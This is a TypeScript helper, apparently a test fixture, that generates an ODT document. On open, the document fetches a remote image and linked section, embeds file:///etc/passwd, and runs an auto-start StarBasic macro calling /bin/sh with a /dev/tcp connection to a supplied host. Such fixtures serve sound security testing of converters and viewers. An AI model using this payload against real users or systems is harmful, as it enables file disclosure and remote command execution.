import { makeZip } from './make-zip.ts'

const uses = ['office', 'text', 'drawing', 'svg-compatible', 'script']
  .map((name) => {
    const prefix = { drawing: 'draw', 'svg-compatible': 'svg' }[name] ?? name
    return `xmlns:${prefix}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`
  })
  .join(' ')
const head = '<?xml version="1.0" encoding="UTF-8"?>'
const library = 'xmlns:library="http://openoffice.org/2000/library"'

/** A text that asks for a picture and a section of `address`, for a file of the machine, and runs a macro when it is opened. */
export function makeLinkedOdt(address: string): Buffer {
  const macro =
    'vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xmlns:ooo="http://openoffice.org/2004/office'
  const section = (name: string, href: string) =>
    `<text:section text:name="${name}"><text:section-source xlink:href="${href}" xlink:type="simple" xlink:show="embed"/><text:p>Inside</text:p></text:section>`
  const content = `${head}<office:document-content ${uses} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">
    <office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"
      xlink:type="simple" xlink:href="${macro}"/></office:event-listeners></office:scripts>
    <office:body><office:text><text:p>Before <draw:frame draw:name="f" text:anchor-type="as-char" svg:width="3cm" svg:height="3cm">
      <draw:image xlink:href="${address}/image.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>
    ${section('One', `${address}/section.odt`)}${section('Two', 'file:///etc/passwd')}<text:p>After</text:p></office:text></office:body>
  </office:document-content>`
  const shell = `Sub Main\nShell("/bin/sh", 0, "-c 'exec 3<>/dev/tcp/${new URL(address).host.replace(':', '/')}'", True)\nEnd Sub`
  const parts = {
    'content.xml': content,
    'Basic/script-lc.xml': `${head}<library:libraries ${library}><library:library library:name="Standard" library:link="false"/></library:libraries>`,
    'Basic/Standard/script-lb.xml': `${head}<library:library ${library} library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
    'Basic/Standard/Module1.xml': `${head}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${shell}</script:module>`,
  }
  const entry = (path: string, type: string) =>
    `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${type}"/>`
  const text = 'application/vnd.oasis.opendocument.text'
  const listed = [entry('/', text), ...Object.keys(parts).map((path) => entry(path, 'text/xml'))].join('')
  const manifest = `${head}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">${listed}</manifest:manifest>`
  return makeZip([
    { name: 'mimetype', content: text },
    ...Object.entries(parts).map(([name, part]) => ({ name, content: part })),
    { name: 'META-INF/manifest.xml', content: manifest },
  ])
}
